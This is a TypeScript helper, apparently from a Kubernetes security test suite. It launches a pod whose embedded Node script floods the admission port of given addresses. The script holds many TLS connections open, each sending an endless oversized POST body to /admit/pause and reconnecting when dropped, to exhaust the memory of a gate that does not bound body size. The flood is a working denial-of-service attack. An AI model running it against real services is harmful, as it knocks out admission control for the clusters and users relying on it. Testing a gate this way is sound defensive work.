import type { Stranger } from './stranger.ts';
import { until } from './until.ts';

/** As many connections, each with a body that never ends, as filled the memory of a gate without a bound: 55 of 8 MB in 512 MiB. */
const CONNECTIONS = 80;
const BODY_BYTES = 6_900_000;

/** Keeps so many requests open, for as long as it runs. */
const PROGRAM = `
const tls = require('node:tls');
const [hosts, connections, bytes] = process.argv.slice(1);
const body = Buffer.alloc(Number(bytes) - 1000, 'x');
function open(host) {
  const socket = tls.connect({ host, port: 9443, rejectUnauthorized: false }, () => {
    socket.write('POST /admit/pause HTTP/1.1\\r\\nhost: gate\\r\\ncontent-type: application/json\\r\\ncontent-length: ' + bytes + '\\r\\n\\r\\n"');
    socket.write(body);
  });
  socket.on('error', () => {}).on('data', () => {}).on('close', () => setTimeout(open, 200, host));
}
for (const host of hosts.split(',')) for (let n = 0; n < Number(connections); n += 1) open(host);
console.log('flooding');`;

/** A pod of the stranger's floods the admission port of each of these addresses until it is removed. @param image has a Node */
export async function floodAdmission(
  { namespace, create }: Stranger,
  image: string,
  addresses: readonly string[],
): Promise<void> {
  const args = [addresses.join(','), String(CONNECTIONS), String(BODY_BYTES)];
  await create('pods', {
    apiVersion: 'v1',
    kind: 'Pod',
    metadata: { name: 'flood' },
    spec: {
      terminationGracePeriodSeconds: 0,
      containers: [{ name: 'flood', image, command: ['node', '--eval', PROGRAM, ...args] }],
    },
  });
  await until(
    'the flood has begun',
    60,
    async () => (await namespace.tryKubectl('logs', 'flood')).stdout,
    (text) => text.includes('flooding'),
  );
}
